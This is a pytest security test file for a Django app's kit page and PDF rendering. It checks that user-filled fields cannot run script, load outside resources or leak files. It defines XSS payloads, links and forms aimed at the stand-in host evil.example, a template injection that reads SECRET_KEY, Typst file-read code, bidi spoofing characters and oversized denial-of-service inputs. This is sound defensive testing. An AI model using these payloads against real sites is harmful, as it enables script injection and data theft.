"""Whatever stands in a kit's fields: the page runs nothing and asks for nothing, the PDF shows it as words, in time."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from tests import make
from tests.rooms.kits import seen, written

from passalong.core import clock
from passalong.kits.content import Content, Frozen, FrozenPicture, FrozenProof, Step, StepKind
from passalong.kits.rendering import markdown, pdf
from passalong.kits.rendering.page import VIEW_FIELD, Answers, headers, render_notice, render_page
from passalong.kits.services import editions
from passalong.kits.services import proof as proofs

OUT = "https://evil.example"
PAYLOADS = {
    "script": "<script>window.hit=1</script><img src=x onerror='window.hit=1'><svg/onload=window.hit=1>",
    "broken out": "\"'></title></style></script><script>window.hit=1</script><!--",
    "links": "[a](javascript:window.hit=1) [b](data:text/html,<script>hit=1</script>) [c](vbscript:x) "
    "[d](JaVaScRiPt:hit=1) "
    f"[e](//evil.example) [f]({OUT}:x@y) <javascript:window.hit=1>",
    "pictures": f"![x]({OUT}/a.png) ![y](//evil.example/b.png) ![z](data:image/svg+xml,<svg/onload=hit=1>) "
    f"<img src={OUT}/c.png> ![p](picture:../../secret) ![q](picture:9999999999999)",
    "html": f"<iframe src={OUT}></iframe><link rel=stylesheet href={OUT}><meta http-equiv=refresh content='0;{OUT}'>"
    f"<base href={OUT}><form action={OUT}><input name=password><object data={OUT}>",
    "style": f"</style><style>body{{background:url({OUT})}}</style> expression(hit) @import '{OUT}'",
    "django": "{% load static %}{% include 'kits/publish.html' %}{{ settings.SECRET_KEY }}{% debug %}{{ practice }}",
    "typst": '#read("/etc/hostname") #include "report.typ" #import "@preview/cetz:0.3.0" $x^2$ ```typ #read``` '
    '#eval("40+2") #sys.version @label <label> \\u{41} #image("0.jpg") /* c */ // d',
    "unseen": "a\u202egnp.exe\u2066b\u200b\u2060c\ufeffd\x00\x1b[31m\x07e\u2028f",
    "view": VIEW_FIELD.decode() + '<form method="post" action="https://evil.example">',
}
Rendered = dict[str, bytes]


def frozen(text: str) -> Frozen:
    """The same text in every field a practice fills."""
    short = text[:160]
    content = Content(
        title=short,
        subtitle=short,
        for_whom=short,
        problems=text,
        consequences=text,
        first_step=text,
        next_step=text,
        about=text,
        steps=(
            Step(StepKind.TWO_QUESTIONS),
            Step(StepKind.TIMES, times=(short,)),
            Step(StepKind.BOOKING, short),
            Step(StepKind.MAIL, short),
            Step(StepKind.PHONE, short),
        ),
    )
    return Frozen(
        content=content,
        practice=short,
        imprint=text[:600],
        colour=short,
        number=1,
        published_on="2026-05-04",
        public_url="https://kits.example.org",
        proofs=(
            FrozenProof("a", "testimonial", text[:4000], short, (short,)),
            FrozenProof("b", "case_study", text, short),
        ),
        pictures={"aaaaaaaaaaaaa": FrozenPicture("d" * 64, "image/svg+xml", short, 40, 30)},
        disclosures=(short,),
    )


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if seen.CHROMIUM is None:
        pytest.skip("no Chromium on this machine (apt install chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        running = playwright.chromium.launch(executable_path=seen.CHROMIUM, args=seen.FLAGS)
        yield running
        running.close()


@pytest.mark.parametrize("name", PAYLOADS)
def test_the_page_runs_nothing_and_asks_for_nothing(browser: Any, name: str) -> None:
    page = render_page(frozen(PAYLOADS[name]), has_files=("report", "white_paper"))
    with seen.serving(page) as served:
        tab = browser.new_page()
        asked: list[str] = []
        talked: list[str] = []
        tab.on("request", lambda request: asked.append(request.url))
        tab.on("console", lambda message: talked.append(message.text) if message.type == "error" else None)
        tab.on("dialog", lambda dialog: talked.append(dialog.message))
        tab.goto(served.address + seen.PATH)
        tab.wait_for_timeout(200)
        assert tab.evaluate("window.hit") is None
        assert asked == [served.address + seen.PATH]
        assert set(served.asked) <= {seen.PATH, "/favicon.ico"}  # the icon is every browser's own wish
        assert not [text for text in talked if "404" not in text]
        assert tab.evaluate("document.querySelectorAll('script,style').length") == 2
        assert tab.evaluate("document.querySelectorAll('iframe,object,embed,link,base,svg,img').length") == 0
        assert tab.evaluate("getComputedStyle(document.querySelector('footer')).display") == "block"
        hrefs = tab.evaluate("[...document.querySelectorAll('a')].map(a => a.getAttribute('href'))")
        assert not [href for href in hrefs if not re.match(r"(https://[^/@]+(/|$)|mailto:|tel:|#go$|/privacy/$)", href)]
        actions = tab.evaluate("[...document.querySelectorAll('form')].filter(f => f.hasAttribute('action')).length")
        assert actions == 0
        tab.close()


@pytest.mark.parametrize("name", PAYLOADS)
def test_one_place_for_the_view_and_a_policy_that_names_nobody(name: str) -> None:
    page = render_page(frozen(PAYLOADS[name]))
    assert page.endswith(VIEW_FIELD + b"</body></html>")
    assert page.count(VIEW_FIELD) == 1
    policy = headers(page)["Content-Security-Policy"]
    assert "evil" not in policy
    assert "unsafe" not in policy
    assert policy.count("sha256-") == 2
    assert b"evil.example/" not in page.replace(b"[e]", b"") or name in ("links", "pictures", "html", "style")


@pytest.mark.parametrize("kind", ["report", "white_paper"])
@pytest.mark.parametrize("name", PAYLOADS)
def test_the_pdf_shows_it_as_words(name: str, kind: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("Zanzibarium")
    text = PAYLOADS[name].replace("/etc/hostname", str(secret)) if name == "typst" else PAYLOADS[name]
    made = pdf.render_file(kind, frozen(text), {"d" * 64: b"<svg/>"}, "https://kits.example.org/k/abcdefgh23")
    words = seen.pdf_text(made, tmp_path)
    assert "Zanzibarium" not in words
    facts = seen.pdf_facts(made, tmp_path)
    assert facts["JavaScript"] == "no"
    assert facts["Tagged"] == "yes"
    for link in re.findall(rb"/URI\s*\((.*?)\)", made):
        assert link.startswith((b"https://", b"mailto:", b"tel:")), link


def test_code_of_the_typesetter_is_read_as_it_was_written(tmp_path: Path) -> None:
    made = pdf.render_file("report", frozen('Ask #read("x") and #eval("40+2") and $x^2$ and @label.'), {})
    words = seen.pdf_text(made, tmp_path)
    assert "#read(“x”) and #eval(“40+2”) and $x^2$ and @label." in words
    assert "42" not in words


def test_marks_that_turn_words_around_are_taken_out() -> None:
    page = render_page(frozen(PAYLOADS["unseen"])).decode()
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff\x00\x1b\x07]", page)
    assert "agnp.exebcd[31mef" in page


HUGE = {
    "a megabyte": "word " * 200_000,
    "one long word": "x" * 1_000_000,
    "quotes in quotes": "> " * 200_000 + "x",
    "lists in lists": "".join("  " * depth + "- a\n" for depth in range(2000)),
    "open brackets": "[" * 1_000_000,
    "open stars": "*a " * 300_000,
    "stars and underscores": "**_" * 300_000,
    "backticks": "`" * 9999 + "a" + "`" * 9998,
    "headings": "\n".join("#" * (number % 6 + 1) + " h" for number in range(100_000)),
    "links": f"[a]({OUT}) " * 50_000,
    "entities": "&amp;" * 200_000,
    "marks on marks": "Z" + "\u0301" * 100_000,
}


@pytest.mark.parametrize("name", HUGE)
def test_too_much_is_cut_and_never_hangs(name: str, tmp_path: Path) -> None:
    begun = time.monotonic()
    kit = frozen(HUGE[name])
    page = render_page(kit)
    report = pdf.render_file("report", kit, {})
    paper = pdf.render_file("white_paper", kit, {})
    assert time.monotonic() - begun < 30  # seconds; a minute of every worst part together would be a hang
    assert len(page) < 2_000_000
    assert max(len(report), len(paper)) < 40_000_000


@pytest.mark.parametrize("text", ["漢字 かな", "สวัสดี", "😀👨‍👩‍👧", "مرحبا שלום", "\uf8ff\U000f0000"])
def test_letters_our_fonts_lack_still_make_a_tagged_pdf(text: str, tmp_path: Path) -> None:
    made = pdf.render_file("report", frozen(text), {})
    assert seen.pdf_facts(made, tmp_path)["Tagged"] == "yes"


def test_a_colour_that_is_none_is_not_written_into_the_style() -> None:
    kit = replace(frozen("x"), colour="#fff;}body{display:none")
    assert b"display:none}" not in render_page(kit).split(b"</style>")[0].replace(b"screen{display:none}", b"")


def test_what_came_back_with_a_form_is_written_as_words() -> None:
    said = '"><script>window.hit=1</script>'
    answers = Answers(
        StepKind.TWO_QUESTIONS, dict.fromkeys(("name", "reach", "note", "passed_by"), said), {"wish": said}
    )
    page = render_notice(frozen("x"), said, [said], answers=answers).decode()
    assert said not in page
    assert page.count("<script>") == 1


@pytest.mark.parametrize(
    ("href", "kept"),
    [
        ("https://example.org/a?b=c#d", True),
        ("mailto:a@example.org", True),
        ("tel:+12025550143", True),
        ("http://example.org", False),
        ("https://user:pass@example.org", False),
        ("https://example.org\\@evil.example", False),
        ("https:evil.example", False),
        ("https://[::1", False),
        ("javascript:alert(1)", False),
        ("java\nscript:alert(1)", False),
        ("\u202ehttps://x.example", True),
        ("//evil.example", False),
        ("/k/other", False),
        ("picture:abc", False),
        ("data:text/html,x", False),
        ("", False),
    ],
)
def test_readers_are_led_to_the_open_web_mail_and_phone_only(href: str, kept: bool) -> None:
    assert bool(markdown.safe_link(href)) is kept


@pytest.mark.django_db(transaction=True)
def test_the_owner_at_the_desk_looks_at_all_of_it_and_nothing_runs(browser: Any, live_server: Any) -> None:
    owner = written.owner("adviser")
    shot = PAYLOADS["script"]
    proof = written.proof(
        owner, text=shot, shown_as=shot[:100], conflict=shot, source=shot, paid="cash", paid_words=shot, elements={}
    )
    proofs.record_consent(
        by=owner, proof=proof, given_on=clock.today(), how=shot, elements={"agreement": PAYLOADS["broken out"]}
    )
    kit = written.kit(owner, problems=shot, title=shot[:150], proofs=(proof.public_id,))
    edition = editions.publish(by=owner, kit=kit)
    editions.withdraw(by=owner, edition=edition, why=shot)
    context = browser.new_context()
    cookie = make.browser(owner).cookies[settings.SESSION_COOKIE_NAME].value
    context.add_cookies([{"name": settings.SESSION_COOKIE_NAME, "value": cookie, "url": live_server.url}])
    tab = context.new_page()
    asked: list[str] = []
    tab.on("request", lambda request: asked.append(request.url))
    paths = [f"/kits/proof/{proof.public_id}/{end}" for end in ("", "edit/", "consent/", "revoke/")]
    paths += ["/kits/proof/", f"/kits/{kit.public_id}/publish/", f"/kits/editions/{edition.public_id}/"]
    paths += [f"/kits/{kit.public_id}/publish/page/", f"/kits/editions/{edition.public_id}/page/"]
    for path in paths:
        answer = tab.goto(live_server.url + path)
        assert answer.status == 200, path
        assert [frame.evaluate("window.hit") for frame in tab.frames] == [None] * len(tab.frames), path
    assert not [url for url in asked if not url.startswith((live_server.url, "data:"))]
    context.close()
